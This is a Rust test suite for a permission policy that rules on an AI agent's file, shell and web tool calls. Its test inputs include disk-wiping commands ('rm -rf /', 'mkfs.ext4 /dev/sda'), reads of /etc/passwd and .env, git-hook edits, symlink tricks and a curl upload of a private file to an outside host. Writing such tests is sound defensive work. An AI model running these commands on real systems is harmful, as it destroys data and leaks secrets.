use std::borrow::Cow;

use super::*;
use serde_json::json;

/// Resolves every path to itself.
struct AsWritten;

impl RealPaths for AsWritten {
    fn real<'p>(&self, path: &'p str) -> Option<Cow<'p, str>> {
        match path {
            "/vault/link" => Some("/etc/secret".into()),
            "/vault/dangling" => None,
            _ => Some(path.into()),
        }
    }

    fn names(&self, _: &str, _: usize) -> Vec<(String, bool)> {
        Vec::new()
    }
}

fn request(tool: &str, args: Value) -> Request {
    serde_json::from_value(json!({ "tool": tool, "args": args, "vault": "/vault" })).unwrap()
}

fn decide(rules: Value, tool: &str, args: Value) -> Decision {
    let policy =
        Policy::new(&json!({ "rules": rules, "home": "/home/u", "mcpServers": ["git"] })).unwrap();
    policy.evaluate(&request(tool, args), &AsWritten).decision
}

#[test]
fn the_table_of_defaults() {
    use Decision::{Allow, Ask, Deny};
    for (tool, args, expected) in [
        ("read", json!({ "path": "a.md" }), Allow),
        ("read", json!({ "path": "/etc/passwd" }), Ask),
        ("read", json!({ "path": ".env" }), Ask),
        ("read", json!({ "path": ".env.example" }), Allow),
        ("read", json!({ "path": "KEY.PEM" }), Ask),
        ("read", json!({ "path": "my.environment.md" }), Allow),
        ("read", json!({ "path": "a\nb" }), Ask),
        ("read", json!({ "path": "link" }), Ask),
        ("edit", json!({ "path": "link" }), Deny),
        ("edit", json!({ "path": "dangling" }), Deny),
        ("read", json!({ "path": "link/../a.md" }), Ask),
        ("edit", json!({ "path": "/vault/x/../link/../a.md" }), Deny),
        ("edit", json!({ "path": "link/../../vault/a.md" }), Allow),
        ("edit", json!({ "path": "dangling/../a.md" }), Ask),
        ("edit", json!({ "path": "missing/../a.md" }), Allow),
        ("glob", json!({ "pattern": "link/../*.md" }), Ask),
        ("grep", json!({ "pattern": "x", "path": "link/../" }), Ask),
        ("edit", json!({ "path": "a.md" }), Allow),
        ("edit", json!({ "path": ".git/hooks/pre-commit" }), Ask),
        ("write", json!({ "path": "lib/.GIT/config" }), Ask),
        ("move", json!({ "source": "other", "destination": ".git" }), Ask),
        ("read", json!({ "path": ".git/config" }), Allow),
        ("edit", json!({ "path": ".gitignore" }), Allow),
        ("edit", json!({ "path": ".github/ci.yml" }), Allow),
        ("write", json!({ "path": "../a.md" }), Deny),
        ("move", json!({ "source": "a", "destination": "/b" }), Deny),
        ("glob", json!({ "pattern": "**/*.md" }), Allow),
        ("glob", json!({ "pattern": "../**/*.key" }), Ask),
        ("grep", json!({ "pattern": "x", "include": ".env" }), Ask),
        ("grep", json!({ "pattern": "x" }), Allow),
        ("bash", json!({ "command": "ls" }), Ask),
        ("bash", json!({ "command": "rm -rf /x/y" }), Deny),
        ("bash", json!({ "command": "" }), Ask),
        ("web_search", json!({ "query": "x" }), Allow),
        ("web_fetch", json!({ "url": "x" }), Ask),
        ("mcp:git/log", json!({}), Allow),
        ("mcp:other/log", json!({}), Ask),
        ("deploy", json!({}), Ask),
        ("read", json!({}), Ask),
    ] {
        let found = decide(json!([]), tool, args.clone());
        assert_eq!(found, expected, "{tool} {args}");
    }
}

#[test]
fn what_git_runs_is_written_only_where_a_rule_says_so() {
    let hook = json!({ "path": ".git/hooks/pre-commit" });
    for (pattern, expected) in [
        ("vault:/**", Decision::Ask),
        ("vault:/.git/**", Decision::Allow),
        ("vault:/.git/hooks/pre-commit", Decision::Allow),
    ] {
        let rules = json!([{ "domain": "edit", "pattern": pattern, "decision": "allow" }]);
        assert_eq!(decide(rules, "edit", hook.clone()), expected, "{pattern}");
    }
}

#[test]
fn the_strictest_target_decides() {
    let rules = json!([
        { "domain": "bash", "pattern": "git *", "decision": "allow" },
        { "domain": "bash", "pattern": "npm test", "decision": "allow" },
        { "domain": "bash", "pattern": "ls *", "decision": "allow" },
        { "domain": "bash", "pattern": "cat *", "decision": "allow" },
        { "domain": "bash", "pattern": "echo *", "decision": "allow" },
        { "domain": "bash", "pattern": "rm *", "decision": "deny" },
    ]);
    use Decision::{Allow, Ask, Deny};
    for (command, expected) in [
        ("git status && npm test", Allow),
        ("git status && evil", Ask),
        ("git status && rm x", Deny),
        ("git status && /bin/rm x", Deny),
        ("PATH=x rm x", Deny),
        ("eval 'rm x'", Deny),
        ("echo 'rm x", Deny),
        ("timeout 5 npm test", Allow),
        ("cat a", Allow),
        ("cat .env", Ask),
        ("cat /etc/passwd", Ask),
        ("echo a > out", Allow),
        ("echo a > /out", Deny),
        ("git -c core.pager=evil log", Ask),
        ("cat *.ts", Allow),
        ("cat *", Ask),
        ("cat link/../a", Ask),
        ("cat < link/../a", Ask),
        ("echo a > link/../out", Deny),
        ("cd link && cat ../a", Ask),
        ("cat missing/../a", Allow),
        ("x=1", Ask),
        ("# nothing", Ask),
    ] {
        assert_eq!(
            decide(rules.clone(), "bash", json!({ "command": command })),
            expected,
            "{command}"
        );
    }
}

#[test]
fn a_user_bans_by_either_name_of_a_file() {
    let deny =
        |pattern: &str| json!([{ "domain": "read", "pattern": pattern, "decision": "deny" }]);
    for pattern in ["vault:/a/**", "fs:/vault/a/**", "fs:**/b.md", "a/**"] {
        assert_eq!(
            decide(deny(pattern), "read", json!({ "path": "a/b.md" })),
            Decision::Deny,
            "{pattern}"
        );
    }
    assert_eq!(decide(deny("fs:**"), "read", json!({ "path": "a/b.md" })), Decision::Allow);
    assert_eq!(decide(deny("fs:/etc/**"), "read", json!({ "path": "link" })), Decision::Deny);
    assert_eq!(decide(deny("vault:/link"), "read", json!({ "path": "link" })), Decision::Deny);
}

#[test]
fn an_exact_rule_and_one_that_names_the_option_take_a_concern_away() {
    let allow = |pattern: &str, command: &str| {
        decide(
            json!([{ "domain": "bash", "pattern": pattern, "decision": "allow" }]),
            "bash",
            json!({ "command": command }),
        )
    };
    assert_eq!(allow("python3 *", "python3 -c x"), Decision::Ask);
    assert_eq!(allow("python3 -c *", "python3 -c x"), Decision::Allow);
    assert_eq!(allow("python3 -c x", "python3 -c x"), Decision::Allow);
    assert_eq!(allow("*", "python3 -c x"), Decision::Allow);
    assert_eq!(allow("*", "python3 $x"), Decision::Ask);
    assert_eq!(allow("python3 $x", "python3 $x"), Decision::Ask);
    assert_eq!(allow("FOO=1 npm test", "FOO=1 npm test"), Decision::Allow);
    assert_eq!(allow("FOO=1 npm test", "FOO=2 npm test"), Decision::Ask);
    assert_eq!(allow("FOO=1 npm *", "FOO=1 npm test"), Decision::Ask);
    assert_eq!(allow("FOO=$x npm test", "FOO=$x npm test"), Decision::Ask);
    assert_eq!(allow("*", "PATH=. npm test"), Decision::Ask);
}

#[test]
fn full_access_stops_at_hard_denies() {
    let policy = Policy::new(&json!({ "hardDeny": [{ "domain": "edit", "pattern": "vault:/keep/**", "decision": "deny" }] })).unwrap();
    let decide = |tool: &str, args: Value| {
        let request = Request { full_access: true, ..request(tool, args) };
        policy.evaluate(&request, &AsWritten).decision
    };
    assert_eq!(decide("bash", json!({ "command": "evil $(x)" })), Decision::Allow);
    assert_eq!(decide("deploy", json!({})), Decision::Allow);
    assert_eq!(decide("read", json!({ "path": ".env" })), Decision::Allow);
    assert_eq!(decide("edit", json!({ "path": "keep/x" })), Decision::Deny);
    assert_eq!(decide("bash", json!({ "command": "echo x > keep/x" })), Decision::Deny);
    assert_eq!(decide("bash", json!({ "command": "sudo rm -rf /" })), Decision::Deny);
    assert_eq!(decide("bash", json!({ "command": "eval \"mkfs.ext4 /dev/sda\"" })), Decision::Deny);
    assert_eq!(decide("bash", json!({ "command": "mkfs.ext4 disk.img" })), Decision::Allow);
    for command in [
        "rm -rf /",
        "rm -fr /",
        "rm -r -f /",
        "rm -rf -- /",
        "rm --recursive --force /",
        "rm -rf /*",
        "rm -Rfv /* &",
        "rm -rf / tmp/x",
        "rm -r -f --no-preserve-root /",
        "rm --no-preserve-root -rf /",
    ] {
        assert_eq!(decide("bash", json!({ "command": command })), Decision::Deny, "{command}");
    }
    let padding = "echo a; ".repeat(3000);
    let unread = format!("{padding}rm -rf /; {padding}");
    let unparsed = format!("ls 99999999999>x; {padding}rm -rf /; {padding}");
    for command in [unread, unparsed] {
        assert_eq!(decide("bash", json!({ "command": command })), Decision::Ask);
    }
    for command in ["rm -rf /tmp/x", "rm -rf ./", "rm -rf build/*", "rm a/b", "rmdir /x"] {
        assert_eq!(decide("bash", json!({ "command": command })), Decision::Allow, "{command}");
    }
}

#[test]
fn approvals_answer_questions_and_never_denials() {
    let mut policy = Policy::new(
        &json!({ "rules": [{ "domain": "bash", "pattern": "rm *", "decision": "deny" }] }),
    )
    .unwrap();
    let ask = request("bash", json!({ "command": "python3 -c x" }));
    let verdict = policy.evaluate(&ask, &AsWritten);
    assert_eq!(verdict.suggested_rules.len(), 1);
    assert_eq!(verdict.suggested_rules[0].pattern, "shell:python3 -c x");
    let rule = serde_json::to_value(&verdict.suggested_rules[0]).unwrap();
    policy.approve(&rule, Some("s".into())).unwrap();
    assert_eq!(policy.evaluate(&ask, &AsWritten).decision, Decision::Ask);
    let same = Request {
        session_id: Some("s".into()),
        ..request("bash", json!({ "command": "python3 -c x" }))
    };
    assert_eq!(policy.evaluate(&same, &AsWritten).decision, Decision::Allow);
    policy
        .approve(&json!({ "domain": "bash", "pattern": "rm x", "decision": "allow" }), None)
        .unwrap();
    assert_eq!(
        policy.evaluate(&request("bash", json!({ "command": "rm x" })), &AsWritten).decision,
        Decision::Deny
    );
    assert!(policy.revoke("bash", "shell:python3 -c x", Some("s")));
    assert_eq!(policy.evaluate(&same, &AsWritten).decision, Decision::Ask);
}

#[test]
fn what_only_says_which_command_is_next_needs_no_rule() {
    let rules = json!([{ "domain": "bash", "pattern": "npm test", "decision": "allow" }]);
    let decide = |command: &str| decide(rules.clone(), "bash", json!({ "command": command }));
    assert_eq!(decide("for i in 1 2; do npm test && break; done"), Decision::Allow);
    assert_eq!(decide("npm test || exit $?"), Decision::Allow);
    for asked in
        ["exit", "npm test; ./exit", "npm test; exit $(x)", "exit() { x; }; npm test; exit"]
    {
        assert_eq!(decide(asked), Decision::Ask, "{asked}");
    }
    let banned = json!([
        { "domain": "bash", "pattern": "npm test", "decision": "allow" },
        { "domain": "bash", "pattern": "exit *", "decision": "deny" },
    ]);
    let command = json!({ "command": "npm test; exit 1" });
    assert_eq!(super::tests::decide(banned, "bash", command), Decision::Deny);
}

#[test]
fn suggestions_are_narrow_and_exact() {
    let policy = Policy::new(
        &json!({ "rules": [{ "domain": "read", "pattern": "vault:**", "decision": "ask" }] }),
    )
    .unwrap();
    let patterns = |tool: &str, args: Value| {
        let verdict = policy.evaluate(&request(tool, args), &AsWritten);
        verdict.suggested_rules.into_iter().map(|one| one.pattern).collect::<Vec<_>>()
    };
    assert_eq!(patterns("bash", json!({ "command": "wc -l" })), ["shell:wc -l", "shell:wc *"]);
    assert_eq!(
        patterns("bash", json!({ "command": "git commit -m x" })),
        ["shell:git commit -m x"]
    );
    assert_eq!(patterns("bash", json!({ "command": "git status && rm x" })), Vec::<String>::new());
    assert_eq!(patterns("bash", json!({ "command": "git $x" })), Vec::<String>::new());
    assert_eq!(patterns("read", json!({ "path": "a/b*.md" })), ["vault:/a/b\\*.md", "vault:/a/**"]);
    assert_eq!(patterns("mcp:x/y", json!({})), ["mcp:x/y", "mcp:x/**"]);
}

#[test]
fn ten_thousand_rules_and_a_long_command_end() {
    let rules: Vec<Value> = (0..10_000)
        .map(|n| json!({ "domain": "bash", "pattern": format!("*{n}"), "decision": "allow" }))
        .collect();
    let policy = Policy::new(&json!({ "rules": rules })).unwrap();
    let command: String = (0..10_000).map(|n| format!("p{n};")).collect();
    let verdict = policy.evaluate(&request("bash", json!({ "command": command })), &AsWritten);
    assert_eq!(verdict.decision, Decision::Ask);
}

#[test]
fn own_files_are_read_unless_the_user_says_no() {
    let own = |rules: Value| {
        let policy = Policy::new(&json!({ "rules": rules })).unwrap();
        let mut request = request("read", json!({ "path": "/out/x.txt" }));
        request.own_files.insert("/out/x.txt".into());
        policy.evaluate(&request, &AsWritten).decision
    };
    assert_eq!(own(json!([])), Decision::Allow);
    assert_eq!(
        own(json!([{ "domain": "read", "pattern": "fs:/out/**", "decision": "deny" }])),
        Decision::Deny
    );
}

#[test]
fn a_ban_of_everything_lifts_no_other_ban() {
    let rule = |(pattern, decision): &(&str, &str)| json!({ "domain": "bash", "pattern": pattern, "decision": decision });
    let decided = |rules: &[(&str, &str)]| {
        let rules: Vec<Value> = rules.iter().map(rule).collect();
        decide(json!(rules), "bash", json!({ "command": "/bin/rm -rf b" }))
    };
    let (ask, all, bin) = (("rm *", "ask"), ("*", "deny"), ("/bin/*", "allow"));
    assert_eq!(decided(&[all, bin]), Decision::Allow);
    assert_eq!(decided(&[ask, bin]), Decision::Ask);
    assert_eq!(decided(&[ask, all, bin]), Decision::Ask);
    assert_eq!(decided(&[ask, ("*", "allow"), bin]), Decision::Allow);
}

fn rule() -> impl proptest::strategy::Strategy<Value = Value> {
    use proptest::prelude::*;
    (
        proptest::sample::select(vec!["git *", "ls *", "rm *", "*", "npm test", "cat *", "shell:*", "/bin/*"]),
        proptest::sample::select(vec!["allow", "ask", "deny"]),
    )
        .prop_map(|(pattern, decision)| json!({ "domain": "bash", "pattern": pattern, "decision": decision }))
}

proptest::proptest! {
    #[test]
    fn another_ban_never_allows_more(
        rules in proptest::collection::vec(rule(), 0..6),
        at in 0usize..7,
        ban in proptest::sample::select(vec!["git *", "ls", "*", "rm -rf *", "shell:*"]),
        command in proptest::sample::select(vec!["git status", "ls -a && rm x", "cat a | /bin/rm -rf b", "echo $(ls)", "timeout 5 npm test", "git -c x=y log", "sudo ls"]),
    ) {
        let before = decide(json!(rules), "bash", json!({ "command": command }));
        let mut more = rules.clone();
        more.insert(at.min(rules.len()), json!({ "domain": "bash", "pattern": ban, "decision": "deny" }));
        let after = decide(json!(more), "bash", json!({ "command": command }));
        proptest::prop_assert!(after >= before, "{before:?} became {after:?}");
    }

    #[test]
    fn hard_denies_hold_in_every_mode(rules in proptest::collection::vec(rule(), 0..6), full_access: bool, headless: bool) {
        let policy = Policy::new(&json!({ "rules": rules, "hardDeny": [{ "domain": "bash", "pattern": "evil *", "decision": "deny" }] })).unwrap();
        for command in ["evil x", "ls && evil", "echo $(evil x)", "/x/evil", "bash -c 'evil x'", "env evil", "find . -exec evil {} ;", "x | xargs evil", "A=b evil y"] {
            let request = Request { full_access, headless, ..request("bash", json!({ "command": command })) };
            proptest::prop_assert_eq!(policy.evaluate(&request, &AsWritten).decision, Decision::Deny, "{}", command);
        }
    }

    #[test]
    fn the_order_of_unrelated_rules_makes_no_difference(first in rule(), flip: bool) {
        let mut rules = vec![first, json!({ "domain": "read", "pattern": "vault:/x", "decision": "deny" })];
        if flip {
            rules.swap(0, 1);
        }
        let ordered = decide(json!(rules), "bash", json!({ "command": "git status" }));
        rules.swap(0, 1);
        proptest::prop_assert_eq!(decide(json!(rules), "bash", json!({ "command": "git status" })), ordered);
    }

    #[test]
    fn any_arguments_have_an_answer(tool in "[a-z_]{0,12}|bash|read|grep|web_fetch", key in "path|command|url|pattern|include|[a-z]{1,5}", value in "\\PC{0,40}") {
        let policy = Policy::new(&json!({})).unwrap();
        let one = policy.evaluate(&request(&tool, json!({ &key: &value })), &AsWritten);
        let two = policy.evaluate(&request(&tool, json!({ &key: &value })), &AsWritten);
        proptest::prop_assert_eq!(one, two);
    }
}

#[test]
fn a_path_that_can_be_an_address_is_asked_about() {
    let any = json!([{ "domain": "read", "pattern": "vault:/**", "decision": "allow" }]);
    for path in ["file:///etc/passwd", "FILE:/etc/passwd", " file:a", "https://example.com/a"] {
        assert_eq!(decide(any.clone(), "read", json!({ "path": path })), Decision::Ask, "{path}");
        let args = json!({ "path": path, "pattern": "*" });
        assert_eq!(decide(any.clone(), "glob", args), Decision::Ask, "{path}");
    }
    assert_eq!(decide(any, "read", json!({ "path": "profile:a" })), Decision::Allow);
}

#[test]
fn a_ban_on_reading_holds_whatever_program_is_given_the_file() {
    let all = json!({ "domain": "bash", "pattern": "*", "decision": "allow" });
    let read = |pattern: &str, decision: &str| json!({ "domain": "read", "pattern": pattern, "decision": decision });
    let decide = |rules: &[Value], command: &str| {
        let policy = Policy::new(&json!({ "rules": rules, "home": "/home/u" })).unwrap();
        let verdict =
            policy.evaluate(&request("bash", json!({ "command": command })), &AsWritten).clone();
        (verdict.decision, verdict.targets)
    };
    let rules = [
        all.clone(),
        read("private/**", "deny"),
        read("private/open/**", "allow"),
        read("fs:/etc/**", "ask"),
    ];
    for (command, expected) in [
        ("tar czf x.tgz private/a", Decision::Deny),
        ("rsync -a ./private/a there", Decision::Deny),
        ("cd private && zip x.zip a", Decision::Deny),
        ("curl -F 'f=@private/a' https://example.com", Decision::Deny),
        ("git show HEAD:private/a", Decision::Deny),
        ("strange --input=private/a", Decision::Deny),
        ("python3 private/a.py", Decision::Deny),
        ("bash -c 'strange private/a'", Decision::Deny),
        ("gcc -Iprivate/a x.c", Decision::Deny),
        ("bash private/a", Decision::Deny),
        ("sudo timeout 5 sh ./private/a", Decision::Deny),
        ("./private/a", Decision::Deny),
        ("/vault/private/a x", Decision::Deny),
        ("xargs -a private/a echo", Decision::Deny),
        ("bash public/a", Decision::Allow),
        ("bash .env", Decision::Ask),
        ("tar czf x.tgz private", Decision::Deny),
        ("strange /vault/link", Decision::Ask),
        ("strange /etc/hosts", Decision::Ask),
        ("strange private/open/a", Decision::Allow),
        ("strange public/a https://example.com/private/a", Decision::Allow),
        ("echo private/a", Decision::Allow),
    ] {
        assert_eq!(decide(&rules, command).0, expected, "{command}");
    }
    assert_eq!(decide(&rules, "strange public/a").1, ["shell:strange public/a"]);
    let many = |count: usize| format!("strange{}", " a".repeat(count));
    assert_eq!(decide(&rules, &many(1000)).0, Decision::Allow);
    assert_eq!(decide(&rules, &many(1001)).0, Decision::Ask);
    assert_eq!(decide(&rules, &(many(1001) + " private/a; cat private/a")).0, Decision::Deny);
    // A rule for everything does not mention this file.
    let (decision, _) = decide(&[all, read("*", "ask")], "strange private/a");
    assert_eq!(decision, Decision::Allow);
}

#[test]
fn a_ban_holds_for_a_folder_that_it_is_all_about_and_for_globs_that_may_mean_it() {
    let ban = |domain: &str, pattern: &str| json!({ "domain": domain, "pattern": pattern, "decision": "deny" });
    let policy = Policy::new(&json!({ "home": "/home/u", "rules": [
        json!({ "domain": "bash", "pattern": "*", "decision": "allow" }),
        ban("read", "private/**"),
        ban("edit", "private/**"),
        ban("read", "**/secret*.txt"),
        ban("read", "packages/*/**"),
        ban("read", "notes/**"),
        json!({ "domain": "read", "pattern": "private/open/**", "decision": "allow" }),
        json!({ "domain": "read", "pattern": "**/*.md", "decision": "allow" }),
    ] }))
    .unwrap();
    let decide =
        |tool: &str, args: Value| policy.evaluate(&request(tool, args), &AsWritten).decision;
    for (command, expected) in [
        ("grep -r x private", Decision::Deny),
        ("rg x /vault/private/", Decision::Deny),
        ("rm -rf private", Decision::Deny),
        ("mv private elsewhere", Decision::Deny),
        ("cp -r private/open/x elsewhere", Decision::Allow),
        ("ls -l private", Decision::Allow),
        ("cat notes/a.md packages/a.ts", Decision::Allow),
        ("grep -r x src", Decision::Allow),
        ("cat p*/a", Decision::Ask),
        ("cat */a", Decision::Ask),
        ("cat [p]rivate/a", Decision::Ask),
        ("rm ?rivate/a", Decision::Ask),
        ("cat s*.txt", Decision::Ask),
        ("cat *.md src/*.txt.md", Decision::Allow),
        ("wc -l src/*.ts", Decision::Allow),
    ] {
        assert_eq!(decide("bash", json!({ "command": command })), expected, "{command}");
    }
    for (tool, args, expected) in [
        ("grep", json!({ "pattern": "x", "path": "private" }), Decision::Deny),
        ("grep", json!({ "pattern": "x" }), Decision::Allow),
        ("grep", json!({ "pattern": "x", "include": "*.txt" }), Decision::Ask),
        ("glob", json!({ "pattern": "p*/a" }), Decision::Ask),
        ("glob", json!({ "pattern": "src/**/*.ts" }), Decision::Allow),
        ("ls", json!({ "path": "private" }), Decision::Allow),
        ("delete", json!({ "path": "private" }), Decision::Deny),
    ] {
        assert_eq!(decide(tool, args.clone()), expected, "{tool} {args}");
    }
}

fn told(decision: Decision) -> String {
    super::super::DECISIONS.iter().find(|(_, one)| *one == decision).unwrap().0.to_owned()
}

/// Destinations of paths that change, and the number of lookups.
#[derive(Default)]
struct Changing {
    leads: std::cell::RefCell<std::collections::BTreeMap<String, Option<String>>>,
    asked: std::cell::Cell<usize>,
    /// The names in every directory.
    names: std::cell::RefCell<Vec<(String, bool)>>,
}

impl RealPaths for Changing {
    fn real<'p>(&self, path: &'p str) -> Option<Cow<'p, str>> {
        self.asked.set(self.asked.get() + 1);
        match self.leads.borrow().get(path) {
            Some(other) => other.clone().map(Cow::Owned),
            None => Some(path.into()),
        }
    }

    fn names(&self, _: &str, max: usize) -> Vec<(String, bool)> {
        self.names.borrow().iter().take(max).cloned().collect()
    }
}

#[test]
fn the_same_call_is_answered_again_as_long_as_all_it_depends_on_is_the_same() {
    let rules = json!([{ "domain": "bash", "pattern": "cat *", "decision": "allow" }]);
    let mut policy = Policy::new(&json!({ "rules": rules })).unwrap();
    let system = Changing::default();
    let judged = std::cell::Cell::new(0);
    let decide = |policy: &mut Policy, asked: Value| {
        let request: Request = serde_json::from_value(asked.clone()).unwrap();
        let tell = |policy: &Policy, real: &dyn RealPaths| {
            judged.set(judged.get() + 1);
            Ok::<_, ()>(told(policy.evaluate(&request, real).decision))
        };
        policy.answer(&asked.to_string(), &system, tell).unwrap()
    };
    let call =
        |command: &str| json!({ "tool": "bash", "args": { "command": command }, "vault": "/v" });
    assert_eq!(decide(&mut policy, call("cat a")), "allow");
    assert_eq!(decide(&mut policy, call("cat a")), "allow");
    assert_eq!(judged.get(), 1);
    let before = system.asked.get();
    assert_eq!(decide(&mut policy, call("cat a")), "allow");
    assert!(system.asked.get() > before, "the file system is asked each time");
    assert_eq!((decide(&mut policy, call("cat b")), judged.get()), ("allow".to_owned(), 2));

    let lead = |path: &str, to: Option<&str>| {
        system.leads.borrow_mut().insert(path.to_owned(), to.map(str::to_owned));
    };
    lead("/v/a", Some("/etc/secret"));
    assert_eq!(decide(&mut policy, call("cat a")), "ask");
    assert_eq!(decide(&mut policy, call("cat a")), "ask");
    lead("/v/a", None);
    assert_eq!(decide(&mut policy, call("cat a")), "ask");
    lead("/v/a", Some("/v/a"));
    assert_eq!(decide(&mut policy, call("cat a")), "allow");
    // Nor can a parent directory, which no rule names, be redirected unnoticed.
    lead("/v", Some("/w"));
    let before = judged.get();
    decide(&mut policy, call("cat a"));
    assert_eq!(judged.get(), before + 1);

    lead("/v", Some("/v"));

    // A symlink added to a directory changes the paths that its wildcards match.
    assert_eq!(decide(&mut policy, call("cat src/*.rs")), "allow");
    assert_eq!(decide(&mut policy, call("cat src/*.rs")), "allow");
    lead("/v/src/link.rs", Some("/etc/secret"));
    system.names.borrow_mut().push(("link.rs".to_owned(), true));
    assert_eq!(decide(&mut policy, call("cat src/*.rs")), "ask");

    let make = call("make");
    assert_eq!(decide(&mut policy, make.clone()), "ask");
    let rule = json!({ "domain": "bash", "pattern": "make", "decision": "allow" });
    policy.approve(&rule, None).unwrap();
    assert_eq!(decide(&mut policy, make.clone()), "allow");
    assert!(policy.revoke("bash", "make", None));
    assert_eq!(decide(&mut policy, make.clone()), "ask");
    let headless =
        json!({ "tool": "bash", "args": { "command": "make" }, "vault": "/v", "headless": true });
    assert_eq!(decide(&mut policy, headless), "deny");
}
